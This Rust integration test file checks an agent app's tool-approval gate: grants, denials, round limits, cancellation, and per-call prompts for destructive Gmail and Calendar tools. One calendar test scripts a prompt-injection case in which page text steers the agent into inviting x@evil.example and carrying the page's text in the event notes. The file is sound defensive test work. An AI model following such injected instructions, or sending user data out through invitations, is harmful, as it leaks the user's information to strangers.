// Over 500 lines: one test per rule of the tool gate and the loop, each short.
#![allow(clippy::unwrap_used)] // helpers outside #[test] fns unwrap too
//! The agent loop with tools: the fake Ollama asks for tool calls, the bundled demo server
//! (and server-everything, for a slow tool) runs them, and a scripted "user" answers the
//! approval questions. Approve, deny, once/conversation/always/never, the round bound,
//! concurrent calls, bad calls, and stop in the middle of a tool.
#![cfg(unix)]

mod support;

use std::sync::{Arc, Mutex};
use std::time::Duration;

use perch_core::Engine;
use perch_core::agent::{TurnEvent, TurnOptions, TurnRequest, TurnSink, run_turn, run_turn_with, tools};
use perch_core::questions::{Answer, ApprovalChoice, ElicitationAction, Question};
use perch_core::settings::RuleDecision;
use perch_core::store::MessageStatus;
use perch_core::store::tool_calls::ToolCallStatus;
use perch_fake_llm::{FakeLlm, Script, Step};
use serde_json::{Value, json};

#[derive(Default, Clone)]
struct Collect(Arc<Mutex<Vec<TurnEvent>>>);

impl TurnSink for Collect {
    fn send(&self, event: TurnEvent) {
        self.0.lock().unwrap().push(event);
    }
}

struct Setup {
    _tmp: tempfile::TempDir,
    engine: Engine,
    fake: FakeLlm,
    /// The questions the "user" was asked.
    asked: Arc<Mutex<Vec<Question>>>,
}

/// An engine with the demo server connected and a "user" who answers every approval with `choice`.
async fn setup(choice: ApprovalChoice, extra: Value) -> Setup {
    let tmp = tempfile::tempdir().unwrap();
    let engine = support::engine_with_servers(tmp.path(), extra).await;
    // These tests are about MCP servers; the built-in terminal has its own (tests/terminal.rs).
    engine.terminal().set_enabled(false);
    let fake = support::fake_ollama(&engine).await;
    engine.mcp().ensure_connected("demo", Duration::from_secs(30)).await.unwrap();
    // The "user" fills forms and allows sampling; tool approvals get `choice`.
    let asked = support::answer_questions(&engine, move |question| match question {
        Question::ToolApproval(_) => Answer::Approval { choice },
        Question::Elicitation(_) => Answer::Elicitation {
            action: ElicitationAction::Accept,
            content: Some(json!({ "name": "Ada Lovelace" })),
        },
        Question::Sampling(_) => Answer::Sampling { approve: true },
        Question::Memory(_) => Answer::Memory { keep: None },
    });
    Setup { _tmp: tmp, engine, fake, asked }
}

/// `setup` plus server-everything (from npm, installed by `make deps`), connected.
async fn with_everything() -> Setup {
    let everything = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../node_modules/.bin/mcp-server-everything");
    let s =
        setup(ApprovalChoice::Once, json!({ "everything": { "command": everything, "args": ["stdio"] } }))
            .await;
    s.engine.mcp().ensure_connected("everything", Duration::from_secs(30)).await.unwrap();
    s
}

fn tool_call(name: &str, arguments: Value) -> Step {
    Step::ToolCall { name: name.into(), arguments }
}

fn calls_then(calls: Vec<Step>) -> Script {
    let mut steps = calls;
    steps.push(Step::Finish { reason: None });
    Script { steps, token_delay_ms: 0 }
}

fn ask(text: &str, conversation: Option<String>) -> TurnRequest {
    TurnRequest::ask("ollama:qwen3-vl:8b-instruct", conversation.as_deref(), text)
}

/// The tool messages of the `n`th chat request the fake received.
fn tool_messages(fake: &FakeLlm, n: usize) -> Vec<Value> {
    let body = &fake.chat_requests()[n].body;
    body["messages"].as_array().unwrap().iter().filter(|m| m["role"] == "tool").cloned().collect()
}

#[tokio::test]
async fn an_approved_call_runs_and_its_result_goes_back_to_the_model() {
    let s = setup(ApprovalChoice::Once, json!({})).await;
    s.fake.push(Script {
        steps: vec![
            Step::Text { text: "Let me add. ".into() },
            tool_call("demo__add", json!({"a": 2, "b": 3})),
            Step::Finish { reason: None },
        ],
        token_delay_ms: 0,
    });
    s.fake.push(Script::answer("The sum is 5."));
    let sink = Collect::default();
    let answer = run_turn(s.engine.agent(), ask("What is 2 + 3?", None), &sink).await.unwrap();
    assert_eq!(answer.status, MessageStatus::Complete);
    assert_eq!(answer.content, "Let me add. The sum is 5.");

    let first = &s.fake.chat_requests()[0].body;
    let offered: Vec<&str> =
        first["tools"].as_array().unwrap().iter().map(|t| t["function"]["name"].as_str().unwrap()).collect();
    assert!(offered.contains(&"demo__add") && offered.contains(&"demo__divide"), "{offered:?}");
    assert_eq!(tool_messages(&s.fake, 1)[0]["content"], "5");

    let asked = s.asked.lock().unwrap().clone();
    let [Question::ToolApproval(q)] = asked.as_slice() else { panic!("one approval question: {asked:?}") };
    assert_eq!((q.server.as_str(), q.tool.as_str(), &q.arguments), ("demo", "add", &json!({"a": 2, "b": 3})));

    let detail = s.engine.store().conversation(&answer.conversation_id).await.unwrap();
    let [call] = detail.tool_calls.as_slice() else { panic!("one saved call: {:?}", detail.tool_calls) };
    assert_eq!((call.status, call.round, call.text_offset), (ToolCallStatus::Done, 0, 12));
    assert_eq!(call.output.as_ref().unwrap().text, "5");
    assert!(call.duration_ms.is_some());
    let cards: Vec<ToolCallStatus> = sink
        .0
        .lock()
        .unwrap()
        .iter()
        .filter_map(|e| if let TurnEvent::ToolCall(c) = e { Some(c.status) } else { None })
        .collect();
    assert_eq!(cards, [ToolCallStatus::Pending, ToolCallStatus::Running, ToolCallStatus::Done]);
}

#[tokio::test]
async fn a_question_asked_as_the_servers_start_for_the_first_time_is_offered_their_tools() {
    // A fresh install: no tool list saved from before, the servers started as the app starts
    // them, and the question asked at once. The turn once listed only what had connected.
    let tmp = tempfile::tempdir().unwrap();
    let engine = support::engine_with_servers(tmp.path(), json!({})).await;
    engine.terminal().set_enabled(false);
    let fake = support::fake_ollama(&engine).await;
    let asked = support::answer_questions(&engine, |_| Answer::Approval { choice: ApprovalChoice::Once });
    engine.mcp().start_auto();
    fake.push(calls_then(vec![tool_call("demo__add", json!({"a": 2, "b": 3}))]));
    fake.push(Script::answer("The sum is 5."));
    let answer = run_turn(engine.agent(), ask("What is 2 + 3?", None), &Collect::default()).await.unwrap();
    let first = &fake.chat_requests()[0].body;
    let offered: Vec<&str> =
        first["tools"].as_array().unwrap().iter().map(|t| t["function"]["name"].as_str().unwrap()).collect();
    assert!(offered.contains(&"demo__add"), "{offered:?}");
    assert!(matches!(asked.lock().unwrap().as_slice(), [Question::ToolApproval(_)]));
    assert_eq!(answer.content, "The sum is 5.");
}

#[tokio::test]
async fn a_denied_call_is_explained_to_the_model_and_asking_again_ends_the_turn() {
    let s = setup(ApprovalChoice::Deny, json!({})).await;
    let divide = || tool_call("demo__divide", json!({"a": 1, "b": 3}));
    s.fake.push(calls_then(vec![divide()]));
    s.fake.push(calls_then(vec![divide()]));
    s.fake.push(Script::answer("never reached"));
    let answer = run_turn(s.engine.agent(), ask("Divide 1 by 3", None), &Collect::default()).await.unwrap();
    let told = tool_messages(&s.fake, 1)[0]["content"].as_str().unwrap().to_owned();
    assert!(
        told.contains("declined") && told.contains("ask the user what they would like to change"),
        "{told}"
    );
    assert_eq!(s.fake.chat_requests().len(), 2, "the repeated call is not sent back a third time");
    assert!(answer.content.contains("asked again for a tool call you declined"), "{}", answer.content);
    assert_eq!(s.asked.lock().unwrap().len(), 1);
    let calls = s.engine.store().conversation(&answer.conversation_id).await.unwrap().tool_calls;
    assert_eq!(calls[0].status, ToolCallStatus::Denied);
}

#[tokio::test]
async fn conversation_grants_hold_for_that_conversation_only() {
    let s = setup(ApprovalChoice::Conversation, json!({})).await;
    for _ in 0..3 {
        s.fake.push(calls_then(vec![tool_call("demo__add", json!({"a": 1, "b": 1}))]));
        s.fake.push(Script::answer("2"));
    }
    let first = run_turn(s.engine.agent(), ask("1+1", None), &Collect::default()).await.unwrap();
    run_turn(s.engine.agent(), ask("again", Some(first.conversation_id.clone())), &Collect::default())
        .await
        .unwrap();
    assert_eq!(s.asked.lock().unwrap().len(), 1, "the second call in the conversation is not asked about");
    let resumed = &s.fake.chat_requests()[2].body["messages"];
    let remembered = resumed.as_array().unwrap().iter().any(|m| {
        m["role"] == "assistant"
            && m["content"]
                .as_str()
                .is_some_and(|c| c.contains("[tool call demo:add {\"a\":1,\"b\":1} -> Done: \"2\"]"))
    });
    assert!(remembered, "a later turn sees the earlier tool call: {resumed}");
    run_turn(s.engine.agent(), ask("1+1", None), &Collect::default()).await.unwrap();
    assert_eq!(s.asked.lock().unwrap().len(), 2, "a new conversation asks again");
}

#[tokio::test]
async fn always_and_never_become_rules() {
    let s = setup(ApprovalChoice::Always, json!({})).await;
    s.fake.push(calls_then(vec![tool_call("demo__add", json!({"a": 1, "b": 1}))]));
    s.fake.push(Script::answer("2"));
    run_turn(s.engine.agent(), ask("1+1", None), &Collect::default()).await.unwrap();
    let rules = s.engine.settings().get().await.tools.rules;
    assert_eq!((rules[0].pattern.as_str(), rules[0].decision), ("demo:add", RuleDecision::Allow));
    s.fake.push(calls_then(vec![tool_call("demo__add", json!({"a": 2, "b": 2}))]));
    s.fake.push(Script::answer("4"));
    run_turn(s.engine.agent(), ask("2+2", None), &Collect::default()).await.unwrap();
    assert_eq!(s.asked.lock().unwrap().len(), 1, "an allow rule does not ask");

    let s = setup(ApprovalChoice::Never, json!({})).await;
    for _ in 0..2 {
        s.fake.push(calls_then(vec![tool_call("demo__divide", json!({"a": 1, "b": 2}))]));
        s.fake.push(Script::answer("ok"));
    }
    run_turn(s.engine.agent(), ask("1/2", None), &Collect::default()).await.unwrap();
    run_turn(s.engine.agent(), ask("1/2 again", None), &Collect::default()).await.unwrap();
    assert_eq!(s.asked.lock().unwrap().len(), 1, "a deny rule does not ask");
    let told = tool_messages(&s.fake, 3)[0]["content"].as_str().unwrap().to_owned();
    assert!(told.contains("does not allow"), "{told}");
}

#[tokio::test]
async fn command_line_rules_allow_without_asking_and_bad_calls_are_explained() {
    let s = setup(ApprovalChoice::Deny, json!({})).await;
    s.fake.push(calls_then(vec![
        tool_call("demo__add", json!({"a": 1, "b": 2})),
        tool_call("demo__add", json!({"a": "one"})),
        tool_call("demo__multiply", json!({"a": 1, "b": 2})),
        tool_call("demo__divide", json!({"a": 1, "b": 0})),
    ]));
    s.fake.push(Script::answer("done"));
    let options = TurnOptions { extra_rules: tools::approve_rules(&["demo:*".into()]), no_tools: false };
    let answer =
        run_turn_with(s.engine.agent(), ask("maths", None), &Collect::default(), options).await.unwrap();
    assert_eq!(answer.status, MessageStatus::Complete);
    assert!(s.asked.lock().unwrap().is_empty());
    let results: Vec<String> =
        tool_messages(&s.fake, 1).iter().map(|m| m["content"].as_str().unwrap().to_owned()).collect();
    assert_eq!(results[0], "3");
    assert!(
        results[1].contains("do not match the input schema")
            && results[1].contains("\"b\" is a required property"),
        "{}",
        results[1]
    );
    assert!(results[2].contains("no tool named \"demo__multiply\""), "{}", results[2]);
    assert!(results[3].contains("cannot divide by zero"), "{}", results[3]);
    let calls = s.engine.store().conversation(&answer.conversation_id).await.unwrap().tool_calls;
    assert_eq!(calls.len(), 4);
    assert!(calls.iter().all(|c| c.round == 0), "one round, run together");
}

#[tokio::test]
async fn the_round_bound_stops_the_loop_and_the_last_request_offers_no_tools() {
    let s = setup(ApprovalChoice::Once, json!({})).await;
    s.engine.settings().update(|st| st.tools.max_rounds = 2).await.unwrap();
    for i in 0..3 {
        s.fake.push(calls_then(vec![tool_call("demo__add", json!({"a": i, "b": 1}))]));
    }
    let answer = run_turn(s.engine.agent(), ask("count forever", None), &Collect::default()).await.unwrap();
    let requests = s.fake.chat_requests();
    assert_eq!(requests.len(), 3);
    assert!(requests[1].body["tools"].as_array().is_some_and(|t| !t.is_empty()));
    assert!(requests[2].body.get("tools").is_none_or(|t| t.as_array().is_none_or(Vec::is_empty)));
    let last = requests[2].body["messages"].as_array().unwrap();
    assert!(last.iter().any(|m| m["content"].as_str().is_some_and(|c| c.contains("the most allowed"))));
    let calls = s.engine.store().conversation(&answer.conversation_id).await.unwrap().tool_calls;
    assert_eq!(calls.iter().map(|c| c.round).collect::<Vec<_>>(), [0, 1], "the third request is not run");
    assert!(answer.content.ends_with("after 2 rounds of tool calls._"), "{}", answer.content);
}

#[tokio::test]
async fn many_tools_are_narrowed_to_the_top_k_and_the_always_on_ones() {
    let s = with_everything().await;
    s.engine
        .settings()
        .update(|st| {
            st.tools.top_k = 3;
            st.tools.retriever = perch_core::settings::RetrieverChoice::Bm25;
            st.tools.always_on = vec!["everything:get-env".into()];
        })
        .await
        .unwrap();
    s.fake.push(Script::answer("ok"));
    run_turn(s.engine.agent(), ask("Divide 10 by 4, a division of two numbers", None), &Collect::default())
        .await
        .unwrap();
    let offered: Vec<String> = s.fake.chat_requests()[0].body["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["function"]["name"].as_str().unwrap().to_owned())
        .collect();
    assert!(s.engine.mcp().tools().len() > 15, "many tools are enabled");
    assert_eq!(offered.len(), 5, "K = 3 plus the always-on tool and `remember`: {offered:?}");
    assert_eq!(offered[..2], ["everything__get-env", "memory__remember"], "always-on tools come first");
    assert!(offered.contains(&"demo__divide".to_owned()), "{offered:?}");
    s.engine.stop_mcp_servers().await;
}

#[tokio::test]
async fn stop_during_a_slow_tool_cancels_it_and_saves_a_consistent_answer() {
    let s = with_everything().await;
    s.fake.push(calls_then(vec![tool_call(
        "everything__trigger-long-running-operation",
        json!({"duration": 30, "steps": 30}),
    )]));
    let sink = Collect::default();
    let mut request = ask("run the long thing", None);
    request.run_id = Some("r1".into());
    let turn = tokio::spawn({
        let (engine, sink) = (s.engine.clone(), sink.clone());
        async move { run_turn(engine.agent(), request, &sink).await }
    });
    // Wait for progress from the running tool, then stop.
    for _ in 0..200 {
        if sink.0.lock().unwrap().iter().any(|e| matches!(e, TurnEvent::ToolProgress { .. })) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(s.engine.runs().cancel("r1"));
    let answer = turn.await.unwrap().unwrap();
    assert_eq!(answer.status, MessageStatus::Stopped);
    let calls = s.engine.store().conversation(&answer.conversation_id).await.unwrap().tool_calls;
    assert_eq!(calls[0].status, ToolCallStatus::Cancelled);
    assert_eq!(s.fake.chat_requests().len(), 1, "nothing more is sent after a stop");
    s.engine.stop_mcp_servers().await;
}

#[tokio::test]
async fn a_servers_form_and_its_use_of_the_model_both_go_through_the_user() {
    let s = with_everything().await;
    let cancel = tokio_util::sync::CancellationToken::new();
    let filled = s
        .engine
        .mcp()
        .call_tool("everything", "trigger-elicitation-request", None, &cancel, None)
        .await
        .unwrap();
    assert!(filled.text.contains("Ada Lovelace"), "{}", filled.text);
    let asked = s.asked.lock().unwrap().clone();
    let Some(Question::Elicitation(form)) = asked.last() else { panic!("a form was shown: {asked:?}") };
    assert_eq!(form.server, "everything", "the form names the server that asks");
    assert_eq!(form.schema["required"], json!(["name"]));

    // Sampling: the user sees the request and the model that would answer, then the model answers.
    s.engine
        .settings()
        .update(|st| st.models.default_model = Some("ollama:qwen3-vl:8b-instruct".into()))
        .await
        .unwrap();
    s.fake.push(Script::answer("Sampled words."));
    let args = json!({ "prompt": "Say something", "maxTokens": 50 }).as_object().cloned();
    let sampled = s
        .engine
        .mcp()
        .call_tool("everything", "trigger-sampling-request", args, &cancel, None)
        .await
        .unwrap();
    assert!(sampled.text.contains("Sampled words."), "{}", sampled.text);
    let asked = s.asked.lock().unwrap().clone();
    let Some(Question::Sampling(q)) = asked.last() else { panic!("sampling was asked about: {asked:?}") };
    assert_eq!(
        (q.server.as_str(), q.model.as_str(), q.max_tokens),
        ("everything", "ollama:qwen3-vl:8b-instruct", 50)
    );
    assert!(q.messages[0].contains("Say something"), "{:?}", q.messages);
    s.engine.stop_mcp_servers().await;
}

/// The workspace's build of a binary (test binaries live in target/<profile>/deps).
fn repo_target_bin(name: &str) -> String {
    let exe = std::env::current_exe().unwrap();
    exe.parent().unwrap().parent().unwrap().join(name).to_string_lossy().into_owned()
}

/// `setup` with the bundled Google server under `name`, against the fake Google, given a token
/// for `scope`, and the "user" allowing each call for the conversation. Returns the token too.
async fn with_google(name: &str, scope: &str) -> (Setup, perch_fake_google::FakeGoogle, String) {
    let google = perch_fake_google::FakeGoogle::start().await.unwrap();
    let token = google.mint_access_token(&[scope]);
    let server = json!({ name: {
        "command": repo_target_bin("perch-mcp-google"),
        "env": {
            "PERCH_GOOGLE_ACCESS_TOKEN": token.clone(),
            "PERCH_GOOGLE_SCOPES": scope,
            "PERCH_GOOGLE_API_BASE": google.base_url(),
        },
    } });
    let s = setup(ApprovalChoice::Conversation, server).await;
    s.engine.mcp().ensure_connected(name, Duration::from_secs(30)).await.unwrap();
    (s, google, token)
}

/// The tools the "user" was asked about, each with whether the card said it destroys.
fn asked_about(s: &Setup) -> Vec<(String, bool)> {
    let asked = s.asked.lock().unwrap();
    asked
        .iter()
        .map(|q| match q {
            Question::ToolApproval(q) => (q.tool.clone(), q.destructive),
            other => panic!("{other:?}"),
        })
        .collect()
}

#[tokio::test]
async fn a_tool_that_destroys_is_asked_about_at_every_call_even_when_allowed_for_the_chat() {
    // Its trash tool says it is destructive.
    let (s, _google, token) = with_google("gmail", "https://www.googleapis.com/auth/gmail.modify").await;
    let tools = s.engine.mcp().server("gmail").unwrap().tools;
    assert!(tools.iter().any(|t| t.name == "gmail_trash" && t.destructive), "{tools:?}");
    for _ in 0..2 {
        s.fake.push(calls_then(vec![tool_call(
            "gmail__gmail_trash",
            json!({ "message_id": "18c0ffee00000001" }),
        )]));
        s.fake.push(Script::answer("done"));
        s.fake.push(calls_then(vec![tool_call("gmail__gmail_search", json!({ "query": "in:inbox" }))]));
        s.fake.push(Script::answer("done"));
    }
    let first = run_turn(s.engine.agent(), ask("trash it", None), &Collect::default()).await.unwrap();
    run_turn(s.engine.agent(), ask("search", Some(first.conversation_id.clone())), &Collect::default())
        .await
        .unwrap();
    run_turn(s.engine.agent(), ask("trash it", Some(first.conversation_id.clone())), &Collect::default())
        .await
        .unwrap();
    run_turn(s.engine.agent(), ask("search", Some(first.conversation_id.clone())), &Collect::default())
        .await
        .unwrap();
    // Trash is asked about both times; the search, allowed for the chat once, is not asked again.
    assert_eq!(
        asked_about(&s),
        [
            ("gmail_trash".to_owned(), true),
            ("gmail_search".to_owned(), false),
            ("gmail_trash".to_owned(), true)
        ]
    );
    // The mail was searched and the history kept; the access token is nowhere in the database.
    let db = s.engine.data_dir().db_path();
    let stem = db.file_name().unwrap().to_string_lossy().into_owned();
    let contains = |bytes: &[u8], wanted: &[u8]| bytes.windows(wanted.len()).any(|w| w == wanted);
    let mut calls_kept = false;
    for entry in std::fs::read_dir(db.parent().unwrap()).unwrap().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.starts_with(&stem) {
            let bytes = std::fs::read(entry.path()).unwrap();
            assert!(!contains(&bytes, token.as_bytes()), "the token is in {name}");
            calls_kept |= contains(&bytes, b"gmail_trash");
        }
    }
    assert!(calls_kept, "the files read are the ones the calls were kept in");
}

#[tokio::test]
async fn an_event_that_emails_its_guests_is_asked_about_at_every_call_as_mail_is() {
    let (s, google, _) = with_google("calendar", "https://www.googleapis.com/auth/calendar.events").await;
    // An event for the user alone, then (as a page read earlier might ask) one inviting a
    // stranger, with the page's text as its notes, twice; a change that tells the guests; and
    // guests added without telling them.
    let alone = json!({ "title": "Focus time", "start": "2026-12-01T09:00" });
    let invite = json!({ "title": "Sync", "start": "2026-12-01T10:00", "attendees": ["x@evil.example"],
                         "description": "the text the page asked to send" });
    let untold = json!({ "title": "Review", "start": "2026-12-02T10:00", "attendees": ["ana@example.org"],
                         "notify_attendees": false });
    let create = |args: &Value| calls_then(vec![tool_call("calendar__calendar_create_event", args.clone())]);
    let mut conversation = None;
    for script in [create(&alone), create(&alone), create(&invite), create(&invite)] {
        s.fake.push(script);
        s.fake.push(Script::answer("done"));
        let done =
            run_turn(s.engine.agent(), ask("plan", conversation.clone()), &Collect::default()).await.unwrap();
        conversation = Some(done.conversation_id);
    }
    let focus = google.events().into_iter().find(|e| e["summary"] == "Focus time").unwrap();
    let change = json!({ "event_id": focus["id"], "start": "2026-12-01T11:00" });
    for script in [calls_then(vec![tool_call("calendar__calendar_update_event", change)]), create(&untold)] {
        s.fake.push(script);
        s.fake.push(Script::answer("done"));
        run_turn(s.engine.agent(), ask("plan", conversation.clone()), &Collect::default()).await.unwrap();
    }
    // The event alone, allowed for the chat, is not asked about again, nor are the guests added
    // untold; each invitation and the change are, and no grant for the chat is offered.
    let create = "calendar_create_event".to_owned();
    assert_eq!(
        asked_about(&s),
        [
            (create.clone(), false),
            (create.clone(), true),
            (create, true),
            ("calendar_update_event".to_owned(), true)
        ]
    );
    // Each call ran (the user allowed it), the invitations with their guests on the card.
    let events = google.events();
    assert_eq!(events.iter().filter(|e| e["summary"] == "Sync").count(), 2);
    assert!(events.iter().any(|e| e["summary"] == "Review"));
    // Google emailed the stranger twice, and no one about the event kept untold.
    let emailed: Vec<(String, Vec<String>)> =
        google.guest_emails().into_iter().map(|e| (e.summary, e.to)).collect();
    let sync = ("Sync".to_owned(), vec!["x@evil.example".to_owned()]);
    assert_eq!(emailed, [sync.clone(), sync]);
    let asked = s.asked.lock().unwrap();
    let Question::ToolApproval(invitation) = &asked[1] else { panic!() };
    assert_eq!(invitation.arguments["attendees"], json!(["x@evil.example"]));
}

/// A 1x1 PNG, as a pasted picture arrives.
fn pasted_picture() -> perch_core::agent::ImageInput {
    let mut png = Vec::new();
    image::RgbaImage::from_pixel(1, 1, image::Rgba([10, 20, 30, 255]))
        .write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
        .unwrap();
    use base64::Engine as _;
    perch_core::agent::ImageInput {
        name: "pasted image".into(),
        mime: "image/png".into(),
        base64: base64::engine::general_purpose::STANDARD.encode(png),
        capture: None,
    }
}

#[tokio::test]
async fn with_an_image_no_tools_are_offered_the_model_and_the_user_learn_why_and_the_next_question_has_them_again()
 {
    let s = setup(ApprovalChoice::Once, json!({})).await;
    // A conversation that used a tool: the model knows its name.
    s.fake.push(calls_then(vec![tool_call("demo__add", json!({"a": 2, "b": 3}))]));
    s.fake.push(Script::answer("5"));
    let first = run_turn(s.engine.agent(), ask("What is 2 + 3?", None), &Collect::default()).await.unwrap();
    let conversation = Some(first.conversation_id.clone());

    // A question with an image (tools skipped, the default): the model calls the tool anyway.
    s.fake.push(calls_then(vec![tool_call("demo__add", json!({"a": 1, "b": 1}))]));
    s.fake.push(Script::answer("I cannot use tools now."));
    let mut with_image = ask("And what is this?", conversation.clone());
    let perch_core::agent::TurnKind::Ask { images, .. } = &mut with_image.kind else { unreachable!() };
    images.push(pasted_picture());
    let sink = Collect::default();
    let answer = run_turn(s.engine.agent(), with_image, &sink).await.unwrap();
    assert_eq!(answer.status, MessageStatus::Complete);
    let requests = s.fake.chat_requests();
    assert!(requests[2].body.get("tools").is_none_or(|t| t.as_array().is_none_or(Vec::is_empty)));
    let told = tool_messages(&s.fake, 3)[0]["content"].as_str().unwrap().to_owned();
    assert!(
        told.contains("demo__add was not run") && told.contains("Offer no tools when an image is attached"),
        "{told}"
    );
    assert!(!told.contains("There is no tool named"), "{told}");
    // The user reads the same reason on the call's card.
    let card = sink
        .0
        .lock()
        .unwrap()
        .iter()
        .filter_map(|e| if let TurnEvent::ToolCall(c) = e { c.output.clone() } else { None })
        .next_back()
        .unwrap();
    assert_eq!(card.text, told);
    assert!(s.asked.lock().unwrap().len() == 1, "the refused call asked nobody");

    // The next question has no image: tools are back, though the conversation holds one.
    s.fake.push(Script::answer("ok"));
    run_turn(s.engine.agent(), ask("Thanks", conversation), &Collect::default()).await.unwrap();
    let last = s.fake.chat_requests().pop().unwrap();
    assert!(last.body["tools"].as_array().is_some_and(|t| !t.is_empty()), "tools offered again");
}
